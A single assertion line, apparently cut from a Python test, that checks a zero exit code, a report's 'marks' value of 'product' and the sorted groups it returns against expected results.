    assert code == 0 and report["marks"] == "product" and [sorted(g) for g in groups_of(report)] == found[Marks.PRODUCT]
